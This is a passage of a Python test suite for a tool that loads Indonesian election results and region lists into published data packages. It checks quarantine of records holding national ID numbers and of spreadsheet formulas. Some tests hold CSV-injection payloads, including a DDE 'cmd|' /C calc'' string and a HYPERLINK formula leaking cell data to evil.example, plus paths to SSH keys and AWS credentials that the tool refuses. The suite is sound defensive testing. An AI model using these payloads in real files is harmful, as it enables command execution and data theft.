    project, result = build(make_project, cli_runner, {
        "raw": {"3471011001001.json": TPS, "3471011001002.json": {**TPS, "psu": f"ulang NIK {NIK}"}},
        "format": "sirekap-tps-json", "election": "ppwp-2024", "snapshot": "2024-02-15"}, {
        "raw": {"0.json": [{"nama": "DI YOGYAKARTA", "id": 1, "kode": "34", "tingkat": 1},
                           {"nama": f"KOTA {NIK}", "id": 2, "kode": "3471", "tingkat": 2}]},
        "format": "sirekap-wilayah-json"})
    assert result.exit_code == 0, result.output
    assert query(project, "SELECT kode_tps FROM hasil_tps") == [("3471011001001",)]
    assert query(project, "SELECT kode_wilayah FROM wilayah WHERE sumber IS NOT NULL") == [("34",)]
    reasons = [r for (r,) in query(project, "SELECT reason FROM quarantine ORDER BY source")]
    assert reasons == ["cannot be stored: a text value holds a NIK-like number, which is never published"] * 2
    _no_nik(project)
    assert accounts(project) == [(2, 1, 1), (2, 1, 1)]


#: A NIK as people write one into free text, and two glued into one run (an NKK, then a NIK).
WRITTEN = {"dashes": "3471-0141-0190-0001", "spaces": "3471 0141 0190 0001", "dots": "3471.0141.0190.0001",
           "fullwidth": "".join(chr(0xFF10 + int(d)) for d in NIK), "glued": "3471011512200001" + NIK,
           "unit separators": "3471\x1f0141\x1f0190\x1f0001",  # (review AF #4: shown as nothing)
           "superscripts": "³⁴⁷¹⁰¹⁴¹⁰¹⁹⁰⁰⁰⁰¹"}  # (digits to a reader, not to \d)


@pytest.mark.parametrize("how", sorted(WRITTEN))
def test_a_nik_written_another_way_in_any_text_value_quarantines_its_record(
        make_project: Any, cli_runner: CliRunner, how: str) -> None:
    """Sixteen digits in a row is how the packages would hold a NIK; in free text people break it up, type it in
    fullwidth digits or glue it to an NKK, and each is as personal. Quarantined, and masked in the quarantine."""
    nik = WRITTEN[how]
    project, result = build(make_project, cli_runner, {
        "raw": {"3471011001001.json": TPS, "3471011001002.json": {**TPS, "psu": f"ulang, NIK {nik}"}},
        "format": "sirekap-tps-json", "election": "ppwp-2024", "snapshot": "2024-02-15"}, {
        "raw": {"0.json": [{"nama": "DI YOGYAKARTA", "id": 1, "kode": "34", "tingkat": 1},
                           {"nama": f"KOTA {nik}", "id": 2, "kode": "3471", "tingkat": 2}]},
        "format": "sirekap-wilayah-json"}, {
        "raw": {"a.csv": f"kode,sah,nama\n3471,100,KOTA\n3472,5,NIK {nik}\n"}, "format": "csv",
        "election": "ppwp-2024", "snapshot": "2024-02-15",
        "csv": {"table": "hasil_wilayah", "fields": {"kode_wilayah": "kode", "suara_sah": "sah", "psu": "nama"}}})
    assert result.exit_code == 0, result.output
    assert query(project, "SELECT kode_tps FROM hasil_tps") == [("3471011001001",)]
    assert query(project, "SELECT kode_wilayah FROM wilayah WHERE sumber IS NOT NULL") == [("34",)]
    assert query(project, "SELECT kode_wilayah FROM hasil_wilayah") == [("3471",)]
    reasons = [r for (r,) in query(project, "SELECT reason FROM quarantine ORDER BY source")]
    stored = "cannot be stored: a text value holds a NIK-like number, which is never published"
    assert reasons == [stored, stored, "psu (column 3): holds a NIK-like number (personal data); not loaded"]
    everything = str(query(project, "SELECT * FROM quarantine"))
    assert not holds_nik(everything), everything  # masked in raw text and locators too
    # A record holding a NIK is kept without its raw text (the rest of it may be a person's: a name, a birth date),
    # however the NIK is spelled (JSON can spell the digits as escapes: \uff13, \u0033)
    assert query(project, "SELECT locator FROM quarantine WHERE raw IS NULL ORDER BY locator") == [
        ("0.json[1]",), ("3471011001002.json",), ("a.csv:3",)]
    assert accounts(project) == [(2, 1, 1), (2, 1, 1), (2, 1, 1)]


def test_a_nik_spelled_as_json_escapes_withholds_the_raw_record(make_project: Any, cli_runner: CliRunner) -> None:
    """The quarantine keeps a record's raw text, but not one holding a NIK: JSON that spells a NIK's digits as
    ``\\u0033`` escapes holds one (the same JSON value). Its reason is masked."""
    escaped = "".join(f"\\u{ord(d):04x}" for d in NIK)
    project, result = build(make_project, cli_runner, {
        "raw": {"a.jsonl": '{"kode_tps": "3471011001001", "chart": null, "psu": "NIK ' + escaped + '"}\n'
                           '{"kode_tps": "3471011001002", "chart": null, "psu": "\\\\u0033 stays"}\n'},
        "format": "sirekap-tps-json", "election": "ppwp-2024", "snapshot": "2024-02-15"})
    assert result.exit_code == 0, result.output
    assert query(project, "SELECT raw FROM quarantine") == [(None,)]
    assert query(project, "SELECT psu FROM hasil_tps") == [("\\u0033 stays",)]  # an escaped backslash, no digit


@pytest.mark.parametrize("content, error", [
    (b"11,ACEH\n12,SUMATERA\xa0UTARA\n", "raw/r: provinces.csv: line 2, byte 12: not valid utf-8 (bytes a0 55 54 41) "
     "(hint: re-encode the file as UTF-8 (its bytes look like cp1252: iconv -f cp1252 -t utf-8))"),
    (b"", "raw/r: provinces.csv: the file is empty"),
])
def test_a_region_list_file_that_cannot_be_read_stops_the_build(make_project: Any, cli_runner: CliRunner,
                                                                content: bytes, error: str) -> None:
    """Not one quarantined record for the whole file, its regions left unnamed: refused, naming file and line."""
    project, result = build(make_project, cli_runner, {
        "raw": {"provinces.csv": content, "regencies.csv": "1101,11,SIMEULUE\n"}, "format": "kpu-wilayah-csv",
        "name": "r"})
    assert result.exit_code == 1
    assert result.output.splitlines()[-1].startswith(f"Error: {error}"), result.output


def test_a_formula_in_any_text_value_quarantines_its_record(make_project: Any, cli_runner: CliRunner) -> None:
    """The csv reader refuses a formula-looking cell; the loader refuses one from every other reader (a region
    list's name, Sirekap's ``psu`` note), which the packages would publish into a spreadsheet's cell."""
    project, result = build(make_project, cli_runner, {
        "raw": {"3471011001001.json": {**TPS, "psu": "-3 suara"},
                "3471011001002.json": {**TPS, "psu": "=HYPERLINK(\"http://x\")"}},
        "format": "sirekap-tps-json", "election": "ppwp-2024", "snapshot": "2024-02-15"}, {
        "raw": {"provinces.csv": "34,DI YOGYAKARTA\n35,@SUM(A1)\n36,+ABC\n51,-BALI\n"}, "format": "kpu-wilayah-csv"})
    assert result.exit_code == 0, result.output
    assert query(project, "SELECT kode_tps, psu FROM hasil_tps") == [("3471011001001", "-3 suara")]
    assert query(project, "SELECT kode_wilayah FROM wilayah WHERE sumber IS NOT NULL") == [("34",)]
    reasons = [r for (r,) in query(project, "SELECT reason FROM quarantine ORDER BY source, locator")]
    assert reasons == ["cannot be stored: a text value looks like a spreadsheet formula, which is never published "
                       "(CSV injection risk)"] * 4
    assert accounts(project) == [(2, 1, 1), (4, 1, 3)]


def test_a_line_break_in_a_members_name_is_escaped_in_its_locator(make_project: Any, cli_runner: CliRunner,
                                                                   tmp_path: Path) -> None:
    """Review BB #8: a zip member named with a line break was stored so in quarantine.locator (ESC and BEL were
    escaped): a locator names a place on one line."""
    archive = tmp_path / "t.zip"
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("1101012001001.json", json.dumps(TPS))
        zipped.writestr("bad\nname\u2028.json", json.dumps(TPS))
    project, result = build(make_project, cli_runner, {
        "raw": archive, "format": "sirekap-tps-json", "election": "ppwp-2024", "snapshot": "2024-02-15"})
    assert result.exit_code == 0, result.output
    assert [locator for (locator,) in query(project, "SELECT locator FROM quarantine")] == ["bad\\nname\\u2028.json"]


def test_an_overseas_tps_is_numbered_by_its_list(make_project: Any, cli_runner: CliRunner) -> None:
    """Review BE #1: an overseas ``csv`` list's ``nomor_tps`` is kept, and a name without a number (``KSK``) keeps
    the code's digits; a name ending in one gives it (Sirekap's ``TPS 001`` at ``…002``); no name, no number."""
    stations = ("kode,no,nama\n9901010001002,009,TPS 001\n9901010001003,,KSK\n9901010001004,,\n"
                "3471011001005,7,TPS 005\n")
    project, result = build(make_project, cli_runner, {
        "raw": {"s.csv": stations}, "format": "csv",
        "csv": {"table": "tps", "fields": {"kode_tps": "kode", "nomor_tps": "no", "nama": "nama"}}})
    assert result.exit_code == 0, result.output
    # (a domestic code's digits are its number, whatever a list says: review BF L1)
    assert query(project, "SELECT kode_tps, nomor_tps FROM tps ORDER BY 1") == [
        ("3471011001005", "005"), ("9901010001002", "009"), ("9901010001003", "003"), ("9901010001004", None)]
    from releasekit.ingest import nomor_tps
    assert [nomor_tps("9901010001002", n) for n in ("TPS 001", "KSK", None)] == ["001", "002", None]


def test_an_overseas_tps_no_list_names_has_no_number(make_project: Any, cli_runner: CliRunner) -> None:
    """Review BD D2: an overseas code's last three digits count a country's TPS, KSK and POS together, so a TPS known
    from its results alone has no number (NULL), where a domestic one's is its code's."""
    project, result = build(make_project, cli_runner, {
        "raw": {"9901010001010.json": TPS, "3471011001002.json": TPS},
        "format": "sirekap-tps-json", "election": "ppwp-2024", "snapshot": "2024-02-15"})
    assert result.exit_code == 0, result.output
    assert query(project, "SELECT kode_tps, nomor_tps, jenis_tps FROM tps ORDER BY 1") == [
        ("3471011001002", "002", "reguler"), ("9901010001010", None, "luar-negeri")]
    tps_csv = next((project / "datapackages").glob("*/data/tps.csv")).read_text(encoding="utf-8")
    assert "9901010001010,9901010001,,luar-negeri" in tps_csv


def test_a_formula_after_a_minus_and_a_number_is_one_and_no_quarantined_formula_is_published(
        make_project: Any, cli_runner: CliRunner) -> None:
    """Review BB #6: ``-1+1+cmd|' /C calc'!A0`` (a minus, a number, then an operator: Excel and LibreOffice run it)
    loaded as a region's name; and a record quarantined for a formula had its raw text, ``=HYPERLINK(…)``, published
    in quarantine.csv, where a spreadsheet runs it too. A negative number, or one before words, is text."""
    project, result = build(make_project, cli_runner, {
        "raw": {"provinces.csv": "34,DI YOGYAKARTA\n35,-1+1+cmd|' /C calc'!A0\n36,-5 KAB\n51,-1.5\n"
                                 '=HYPERLINK("http://evil.example/?leak="&A2;"click"),X\n52,-2*3\n'},
        "format": "kpu-wilayah-csv"})
    assert result.exit_code == 0, result.output
    assert query(project, "SELECT kode_wilayah, nama FROM wilayah WHERE sumber IS NOT NULL ORDER BY 1") == [
        ("34", "DI YOGYAKARTA"), ("36", "-5 KAB"), ("51", "-1.5")]
    quarantined = query(project, "SELECT locator, raw FROM quarantine ORDER BY locator")
    assert [locator for locator, _ in quarantined] == ["provinces.csv:2", "provinces.csv:5", "provinces.csv:6"]
    assert [raw for _, raw in quarantined] == ["35,-1+1+cmd|' /C calc'!A0", None, "52,-2*3"]
    published = next((project / "datapackages").glob("*/data/quarantine.csv")).read_text(encoding="utf-8")
    assert all(not cell.startswith(("=", "+", "@", "-")) for line in csv.reader(published.splitlines())
               for cell in line)


def test_no_locator_or_raw_text_of_the_quarantine_starts_a_formula(make_project: Any, cli_runner: CliRunner,
                                                                   tmp_path: Path) -> None:
    """Review BE #6: a zip member named ``=HYPERLINK(…).json`` was published as a locator a spreadsheet runs, and a
    raw text starting with a tab before ``=`` (spreadsheets drop it) was published as it was."""
    archive = tmp_path / "t.zip"
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("1101012001001.json", json.dumps(TPS))
        zipped.writestr('=HYPERLINK("http://evil.example","x").json', json.dumps(TPS))
        zipped.writestr("-1+1+cmd|' /C calc'!A0.json", json.dumps(TPS))
        zipped.writestr('\t=HYPERLINK("http://evil.example","y").json', json.dumps(TPS))  # (review BF M1)
    project, result = build(make_project, cli_runner, {
        "raw": archive, "format": "sirekap-tps-json", "election": "ppwp-2024", "snapshot": "2024-02-15"}, {
        "raw": {"provinces.csv": '34,DI YOGYAKARTA\n\t=HYPERLINK("http://evil.example"),X\n'},
        "format": "kpu-wilayah-csv"})
    assert result.exit_code == 0, result.output
    assert query(project, "SELECT locator, raw IS NULL FROM quarantine ORDER BY locator") == [
        ("./\t=HYPERLINK(\"http://evil.example\",\"y\").json", 0), ("./-1+1+cmd|' /C calc'!A0.json", 0),
        ('./=HYPERLINK("http://evil.example","x").json', 0), ("provinces.csv:2", 1)]
    published = next((project / "datapackages").glob("*/data/quarantine.csv")).read_text(encoding="utf-8")
    assert all(not cell.lstrip("\t\r").startswith(("=", "+", "@", "-"))
               for line in csv.reader(published.splitlines()) for cell in line)


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le"])  # with a byte-order mark, and without
@pytest.mark.parametrize("gzipped", [False, True])
def test_utf16_json_lines_are_refused_like_a_utf16_csv(make_project: Any, cli_runner: CliRunner, tmp_path: Path,
                                                      encoding: str, gzipped: bool) -> None:
    """Every line used to be quarantined ('not UTF-8 at byte 0', then 'invalid JSON' for each): exit 0, nothing
    loaded. A UTF-16 file is refused with one line, as the CSV readers refuse one."""
    text = "".join(json.dumps({"kode_tps": f"347101100100{n}", **TPS}) + "\n" for n in range(1, 4))
    data = text.encode(encoding)
    name = "days.jsonl.gz" if gzipped else "days.jsonl"
    (tmp_path / name).write_bytes(gzip.compress(data, mtime=0) if gzipped else data)
    project, result = build(make_project, cli_runner, {
        "raw": tmp_path / name, "format": "sirekap-tps-json", "election": "ppwp-2024", "snapshot": "2024-02-15"})
    assert result.exit_code == 1, result.output
    assert result.output.strip().splitlines()[-1] == (
        f"Error: raw/{name}: line 1: the file looks like UTF-16, not UTF-8 (hint: re-encode the file as UTF-8)")


def test_a_utf16_json_lines_member_of_an_archive_is_set_aside_alone(tmp_path: Path) -> None:
    line = json.dumps({"kode_tps": "3471011001001", **TPS}) + "\n"
    with zipfile.ZipFile(tmp_path / "t.zip", "w") as out:
        out.writestr("a.jsonl", line.encode("utf-16"))
        out.writestr("b.jsonl", line.replace("001\"", "002\"").encode())
    first, second = read("sirekap-tps-json", tmp_path / "t.zip")
    assert isinstance(first, Rejected) and first.locator == "a.jsonl"
    assert first.reason == "the file looks like UTF-16, not UTF-8; nothing read from it"
    assert isinstance(second, TpsResult) and second.kode_tps == "3471011001002"


def test_links_out_of_a_project_kept_in_a_hidden_folder_are_judged_below_it(tmp_path: Path,
                                                                              monkeypatch: pytest.MonkeyPatch) -> None:
    """A checkout under a hidden folder (a CI runner's ``~/.ci/work/project``) links its raw files to exports beside
    it (``~/.ci/work/shared/data``): only the folders below those the two share count as hidden. Out of a home
    folder, a hidden folder is a place data is kept (``/mnt/.cache/exports``); a hidden file is never read."""
    from releasekit.links import refused

    monkeypatch.setenv("HOME", str(tmp_path))
    assert refused(Path("/mnt/.cache/exports/x.csv"), tmp_path / "project") is None
    assert refused(Path("/mnt/.cache/exports/.env"), tmp_path / "project") is not None
    assert refused(Path("/home/someone/.ssh/id_ed25519"), tmp_path / "project") is not None
    root = tmp_path / ".ci" / "work"
    assert refused(root / "shared" / "data" / "x.csv", root / "project") is None
    assert refused(root / "project" / ".git" / "annex" / "objects" / "x.csv", root / "project") is None
    assert refused(tmp_path / ".aws" / "credentials", root / "project") == (
        "a hidden file or a file in a hidden folder (.aws), where keys and credentials may be kept")
    assert refused(root / ".env", root / "project") is not None
    assert refused(Path("/etc/passwd"), root / "project") == "a file of the operating system"
    # Review BG M1, L1: git-annex's content store is data, its credentials are not; a submodule's store is data too.
    project = tmp_path / "repo" / "project"
    assert refused(project / ".git" / "annex" / "creds" / "5e1b", project) is not None
    assert refused(project / ".git" / "modules" / "sub" / "annex" / "objects" / "Xy" / "K", project) is None
    assert refused(project / ".git" / "modules" / "sub" / "config", project) is not None


def test_the_files_of_a_linked_folder_are_judged_without_resolving_each(make_project: Any, tmp_path: Path,
                                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    """Judging every file of a folder source reached through a link resolved each file's path: 2.6 s → 11.4 s to
    check a linked tree of 100,000 files (a national one holds 823,378). Plain files are judged by the folder's
    place and their own names; only a link's path is resolved."""
    from releasekit import load_release
    from releasekit.provenance import check_sources

    export = tmp_path / "export"
    for n in range(50):
        (export / f"{n % 5}").mkdir(parents=True, exist_ok=True)
        (export / f"{n % 5}" / f"11010120010{n:02d}.json").write_text(json.dumps(TPS))
    (export / "0" / "1101012001099.json").symlink_to("1101012001000.json")
    project = make_project({"r": [{"path": "raw/tps", "format": "sirekap-tps-json", "election": "ppwp-2024",
                                   "snapshot": "2024-02-15"}]})
    (project / "raw" / "tps").symlink_to(export, target_is_directory=True)
    release = load_release(project)
    resolved: list[Path] = []
    real = Path.resolve

    def counting(self: Path, strict: bool = False) -> Path:
        resolved.append(self)
        return real(self, strict)

    monkeypatch.setattr(Path, "resolve", counting)
    (checked,) = check_sources(release)
    assert checked.path == project / "raw" / "tps"
    assert len(resolved) < 10, resolved  # (the project, the folder, the one link: not the 51 files)
